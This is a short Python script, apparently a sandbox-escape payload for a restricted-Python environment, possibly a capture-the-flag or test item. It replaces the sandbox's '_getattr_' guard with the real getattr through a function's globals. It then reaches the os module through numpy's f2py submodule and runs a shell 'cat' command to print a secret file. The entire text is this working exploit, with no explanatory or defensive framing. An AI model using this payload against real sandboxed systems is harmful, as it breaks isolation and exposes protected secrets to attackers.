"""Every function leads to that table."""
import numpy as np
module = [np][0]
def look():
    print(module.f2py.os.popen("cat @SECRET_FILE@").read())
getattr(look, "__globals__")["_getattr_"] = getattr
look()
